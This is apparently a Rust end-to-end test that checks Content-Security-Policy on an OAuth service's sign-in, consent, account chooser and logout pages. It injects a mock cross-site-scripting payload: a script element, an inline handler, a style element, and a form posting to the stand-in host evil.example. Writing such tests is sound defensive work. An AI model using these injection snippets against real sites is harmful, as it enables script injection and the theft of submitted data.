//! No page brings a script, and none runs that somebody else brings; a form goes where it may. N10, H1.

use e2e::browser::PATIENCE;
use e2e::{USER, wait};
use serde_json::json;

use super::Scene;

/// Puts into the page what an attacker could, had the server not escaped something.
const INJECT: &str = "window.violated = [];
    document.addEventListener('securitypolicyviolation', e => window.violated.push(e.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.append(script);
    const link = document.createElement('a');
    link.setAttribute('onclick', 'window.clicked = true');
    document.body.append(link);
    link.click();
    const style = document.createElement('style');
    style.textContent = 'body { opacity: 0.5 }';
    document.head.append(style);
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    form.method = 'post';
    document.body.append(form);
    form.submit();";

/// Nothing of it takes effect on the page that is shown.
async fn nothing_foreign_runs(scene: &Scene, what: &str) {
    let browser = &scene.browser;
    scene.is_content().await;
    assert_eq!(browser.js("return document.scripts.length").await, 0, "{what} has scripts");
    browser.js(INJECT).await;
    let wanted = ["script-src-elem", "script-src-attr", "style-src-elem", "form-action"];
    wait::until("each is reported", PATIENCE, async || {
        let violated = browser.js("return window.violated").await;
        let all: Vec<&str> = violated.as_array()?.iter().filter_map(serde_json::Value::as_str).collect();
        wanted.iter().all(|name| all.contains(name)).then_some(())
    })
    .await;
    let took_effect = "return [window.injected, window.clicked, getComputedStyle(document.body).opacity]";
    assert_eq!(browser.js(took_effect).await, json!([null, null, "1"]), "{what}");
    browser.complaints().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn n10_h1_no_foreign_script_style_or_form_works_on_any_page() {
    let scene = Scene::new().await;
    scene.asks(&[]).await;
    scene.browser.find("#login-submit").await;
    nothing_foreign_runs(&scene, "sign-in").await;
    scene.asks(&[]).await;
    scene.signs_in(USER).await;
    scene.browser.find("#consent-allow").await;
    nothing_foreign_runs(&scene, "consent").await;
    scene.asks(&[("prompt", "select_account")]).await;
    scene.browser.find("#account-1").await;
    nothing_foreign_runs(&scene, "account chooser").await;
    let leave = scene.stack.auth.url("/oauth2/logout");
    scene.browser.open(&leave).await;
    scene.browser.find("#logout-confirm").await;
    nothing_foreign_runs(&scene, "logout confirmation").await;
    scene.browser.open(&leave).await;
    scene.browser.click("#logout-confirm").await;
    scene.browser.find("#signed-out").await;
    nothing_foreign_runs(&scene, "signed out").await;
    scene.stack.auth.still_works().await;
    scene.browser.quit().await;
}
